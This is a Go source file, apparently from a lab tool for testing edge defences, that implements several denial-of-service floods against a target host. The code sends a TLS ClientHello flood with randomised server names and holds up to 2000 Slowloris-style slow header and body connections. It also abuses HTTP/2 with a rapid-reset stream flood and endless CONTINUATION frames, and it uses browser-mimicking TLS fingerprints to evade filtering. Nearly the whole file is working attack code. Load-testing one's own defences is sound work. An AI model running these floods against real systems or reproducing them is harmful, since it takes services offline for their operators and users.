package flood

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"sync"
	"time"

	tls "github.com/refraction-networking/utls"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/evenkeel/evenkeel/lab/edge/browser"
)

// unknown is what stands in a hello for a name that nobody has; eight letters of it change each time.
const unknown = "xxxxxxxx."

// hellos sends hellos that were made before, with other random numbers, and waits for nothing but the first byte of an answer.
func (a *Attack) hellos(p *Profile, c *counts) (one, error) {
	name := a.Host
	if p.Names {
		name = unknown + a.Host
	}
	made := make([][]byte, len(p.Kinds))
	for i, k := range p.Kinds {
		u := tls.UClient(nil, &tls.Config{ServerName: name}, k.Hello)
		if err := u.BuildHandshakeState(); err != nil {
			return nil, fmt.Errorf("make a hello: %w", err)
		}
		raw := u.HandshakeState.Hello.Raw
		made[i] = append([]byte{22, 3, 1, byte(len(raw) >> 8), byte(len(raw))}, raw...)
	}
	return func(ctx context.Context, number int) {
		r := rand.New(rand.NewPCG(a.Seed, uint64(number)))
		hello := bytes.Clone(made[number%len(made)])
		for i := range 32 {
			hello[11+i] = byte(r.Uint32())
		}
		if p.Names {
			at := bytes.Index(hello, []byte(unknown))
			for i := range len(unknown) - 1 {
				hello[at+i] = 'a' + byte(r.IntN(26))
			}
		}
		client := a.client(p, number%p.Persons)
		c.makes(a.at(), 1)
		switch first, err := touch(ctx, &client, hello); {
		case errors.Is(err, context.DeadlineExceeded):
			c.failed.Add(1)
		case err != nil || first != 22: // an alert is 21
			c.refused.Add(1)
		default:
			c.answered.Add(1)
		}
	}, nil
}

// touch sends something and reads the first byte that comes back.
func touch(ctx context.Context, client *browser.Client, what []byte) (byte, error) {
	ctx, stop := context.WithTimeout(ctx, Patience)
	defer stop()
	conn, err := client.Dial(ctx)
	if err != nil {
		return 0, err
	}
	defer conn.Close()
	conn.(*net.TCPConn).SetLinger(0)
	defer context.AfterFunc(ctx, func() { conn.Close() })()
	if _, err := conn.Write(what); err != nil {
		return 0, err
	}
	var first [1]byte
	if _, err := io.ReadFull(conn, first[:]); err != nil {
		if ctx.Err() != nil {
			err = ctx.Err()
		}
		return 0, err
	}
	return first[0], nil
}

// drip is how often a slow one sends a byte, and hoard how many are kept open at once.
const (
	drip  = time.Second
	hoard = 2000
)

// slow opens connections and says on each next to nothing, in turn of a head and of a body.
func (a *Attack) slow(p *Profile, c *counts) one {
	room := make(chan struct{}, hoard)
	return func(ctx context.Context, number int) {
		select {
		case room <- struct{}{}:
			defer func() { <-room }()
		default:
			c.spared.Add(1) // enough are open
			return
		}
		client := a.client(p, number%p.Persons)
		c.makes(a.at(), 1)
		conn, err := handshake(ctx, &client, a.Host, "http/1.1")
		if err != nil {
			c.refused.Add(1)
			return
		}
		defer conn.Close()
		ended, stop := context.WithDeadline(ctx, a.Begin.Add(a.Lasts))
		defer stop()
		defer context.AfterFunc(ended, func() { conn.Close() })()
		go func() { // whatever is answered, it is over then
			io.ReadFull(conn, make([]byte, 1))
			stop()
		}()
		head := "GET /search?q=slow HTTP/1.1\r\nHost: " + a.Host + "\r\nUser-Agent: " + client.Kind.Agent + "\r\nX-Slow: "
		if number%2 == 1 {
			head = "POST /search HTTP/1.1\r\nHost: " + a.Host + "\r\nUser-Agent: " + client.Kind.Agent + "\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n"
		}
		_, err = io.WriteString(conn, head)
		for err == nil {
			timer := time.NewTimer(drip)
			select {
			case <-timer.C:
				_, err = conn.Write([]byte("a"))
			case <-ended.Done():
				err = ended.Err()
			}
			timer.Stop()
		}
		if a.at() < a.Lasts {
			c.refused.Add(1)
		} else {
			c.answered.Add(1) // it was let sit there to the end
		}
	}
}

// handshake makes a connection of a library that speaks one protocol.
func handshake(ctx context.Context, client *browser.Client, host, protocol string) (net.Conn, error) {
	ctx, stop := context.WithTimeout(ctx, Patience)
	defer stop()
	raw, err := client.Dial(ctx)
	if err != nil {
		return nil, err
	}
	conn := tls.UClient(raw, &tls.Config{ServerName: host, RootCAs: client.CAs, NextProtos: []string{protocol}}, tls.HelloGolang)
	if err := conn.HandshakeContext(ctx); err != nil {
		raw.Close()
		return nil, err
	}
	return conn, nil
}

// burst is how many frames are written at once.
const burst = 20

// line is one connection of HTTP/2 that is abused.
type line struct {
	mu     sync.Mutex
	conn   net.Conn
	frame  *http2.Framer
	enc    *hpack.Encoder
	block  bytes.Buffer
	next   uint32
	opened bool // a head that does not end
}

// frames writes streams that are reset at once on three connections of four, and heads without an end on the others.
func (a *Attack) frames(p *Profile, c *counts) one {
	lines := make([]line, p.Persons)
	return func(ctx context.Context, number int) {
		i := number % len(lines)
		l := &lines[i]
		l.mu.Lock()
		defer l.mu.Unlock()
		r := rand.New(rand.NewPCG(a.Seed, uint64(number)))
		if l.conn == nil {
			client := a.client(p, i)
			if err := l.begin(ctx, &client, a.Host); err != nil {
				c.makes(a.at(), 1)
				c.refused.Add(1)
				return
			}
		}
		l.conn.SetWriteDeadline(a.Now().Add(Patience))
		err := l.abuse(i%4 == 3, a.Host, p.Path, r)
		c.makes(a.at(), burst)
		if err != nil {
			c.refused.Add(burst)
			l.conn.Close()
			l.conn = nil
			return
		}
		c.answered.Add(burst)
	}
}

func (l *line) begin(ctx context.Context, client *browser.Client, host string) error {
	conn, err := handshake(ctx, client, host, "h2")
	if err != nil {
		return err
	}
	context.AfterFunc(ctx, func() { conn.Close() })
	l.conn, l.next, l.opened = conn, 1, false
	l.block.Reset()
	l.enc = hpack.NewEncoder(&l.block)
	l.enc.SetMaxDynamicTableSize(0) // each block stands alone
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return err
	}
	l.frame = http2.NewFramer(conn, conn)
	go io.Copy(io.Discard, conn)
	return errors.Join(l.frame.WriteSettings(client.Kind.Settings...), l.frame.WriteWindowUpdate(0, client.Kind.Window))
}

// abuse writes burst frames.
func (l *line) abuse(endless bool, host string, path func(*rand.Rand) string, r *rand.Rand) error {
	var out bytes.Buffer
	f := http2.NewFramer(&out, nil)
	f.AllowIllegalWrites = true
	for range burst {
		l.block.Reset()
		if endless && l.opened {
			l.enc.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-%x", r.Uint32()), Value: fmt.Sprintf("%0512x", r.Uint64())})
			f.WriteContinuation(l.next, false, l.block.Bytes())
			continue
		}
		for _, h := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":authority", Value: host}, {Name: ":scheme", Value: "https"}, {Name: ":path", Value: path(r)}} {
			l.enc.WriteField(h)
		}
		f.WriteHeaders(http2.HeadersFrameParam{StreamID: l.next, BlockFragment: l.block.Bytes(), EndStream: true, EndHeaders: !endless})
		if endless {
			l.opened = true
			continue
		}
		f.WriteRSTStream(l.next, http2.ErrCodeCancel)
		l.next += 2
	}
	_, err := l.conn.Write(out.Bytes())
	return err
}
